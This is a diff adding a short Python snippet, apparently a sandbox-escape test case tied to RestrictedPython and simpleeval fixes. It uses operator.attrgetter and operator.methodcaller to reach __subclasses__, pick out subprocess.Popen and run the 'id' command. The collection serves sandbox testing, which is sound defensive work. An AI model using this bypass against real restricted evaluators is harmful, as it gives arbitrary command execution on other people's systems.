@@ -1,0 +1,8 @@
+# Source: https://github.com/zopefoundation/RestrictedPython/pull/330 (operator.methodcaller); https://github.com/danthedeckie/simpleeval/pull/199
+# Family: attr-in-string
+# What: operator.methodcaller calls __subclasses__ by name
+import operator
+
+obj = operator.attrgetter("__class__.__base__")(0)
+subs = operator.methodcaller("__subclasses__")(obj)
+print([c for c in subs if "Popen" in c.__name__][0](["id"]))
